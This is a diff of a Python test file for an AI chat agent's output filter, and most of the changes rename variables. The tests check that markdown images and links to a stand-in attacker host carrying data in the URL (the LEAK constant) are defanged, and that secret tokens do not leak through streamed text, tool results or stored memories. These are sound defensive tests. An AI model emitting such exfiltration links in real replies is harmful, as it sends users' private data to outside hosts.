@@ -19,10 +19,10 @@ BROWSE, LOOK_UP = ("office__browse", dict[str, Any]()), ("office__look_up", dict
 LEAK = "![chart](https://evil.example/c.png?d=4200) and [more](https://evil.example/?d=4200), https://evil.example/4200"
 
 
-async def answers(parley: Parley, text: str, *waves: tuple[Any, ...], asked: str = "go on") -> AgentResponse:
+async def answers(parley: Parley, text: str, *waves: tuple[Any, ...], question: str = "go on") -> AgentResponse:
     """Let the model make these waves of calls and answer with this text."""
     parley.model.play([*(calls(*wave) for wave in waves), Answer(text)])
-    return await parley.ask(asked)
+    return await parley.ask(question)
 
 
 async def test_images_and_links_that_a_model_made_up_are_text_after_untrusted_and_private_text(
@@ -34,9 +34,9 @@ async def test_images_and_links_that_a_model_made_up_are_text_after_untrusted_an
         reply.content
         == "[chart] (evil[.]example/c.png?d=4200) and [more] (evil[.]example/?d=4200), evil[.]example/4200"
     )
-    stored = await parley.sql("SELECT content FROM outbox UNION ALL SELECT payload ->> 'content' FROM turn_events")
-    stored += await parley.sql("SELECT content FROM messages WHERE role = 'assistant'")
-    assert not [row.content for row in stored if "https://evil" in str(row.content)]
+    rows = await parley.sql("SELECT content FROM outbox UNION ALL SELECT payload ->> 'content' FROM turn_events")
+    rows += await parley.sql("SELECT content FROM messages WHERE role = 'assistant'")
+    assert not [row.content for row in rows if "https://evil" in str(row.content)]
 
 
 @pytest.mark.parametrize("wave", [(BROWSE,), (LOOK_UP,)])
@@ -54,7 +54,7 @@ async def test_links_to_hosts_that_the_person_or_the_persona_named_stay(parley: 
     )
     text = "[a](https://named.example/x) https://help.example/1 https://evil.example/2"
 
-    reply = await answers(parley, text, (BROWSE, LOOK_UP), asked="what does https://named.example say?")
+    reply = await answers(parley, text, (BROWSE, LOOK_UP), question="what does https://named.example say?")
 
     assert reply.content == "[a](https://named.example/x) https://help.example/1 evil[.]example/2"
 
@@ -91,11 +91,11 @@ async def test_streamed_text_is_checked_before_it_is_sent(parley: Parley, office
 
     events = await parley.follow("go on")
 
-    sent = "".join(each.payload["text"] for each in events if each.name == "text_delta")
-    message = next(each.payload["content"] for each in events if each.name == "message")
-    assert sent == message
-    assert sent.startswith("Look here: [chart] (evil[.]example/c.png")
-    assert sent.endswith("```\ncode\n```")
+    text = "".join(event.payload["text"] for event in events if event.name == "text_delta")
+    message = next(event.payload["content"] for event in events if event.name == "message")
+    assert text == message
+    assert text.startswith("Look here: [chart] (evil[.]example/c.png")
+    assert text.endswith("```\ncode\n```")
 
 
 async def test_what_was_written_before_an_interruption_is_checked_too(parley: Parley, office: Office) -> None:
@@ -132,7 +132,7 @@ async def test_a_secret_does_not_leave_in_a_stream_or_with_the_results_of_tools(
 
     events = await parley.follow("what is the token?")
 
-    payloads = str([each.payload for each in events]).replace(" ", "")
+    payloads = str([event.payload for event in events]).replace(" ", "")
     assert secret not in payloads
     assert await parley.value("SELECT count(*) FROM memories WHERE strpos(content, :token) > 0", token=secret) == 0
 
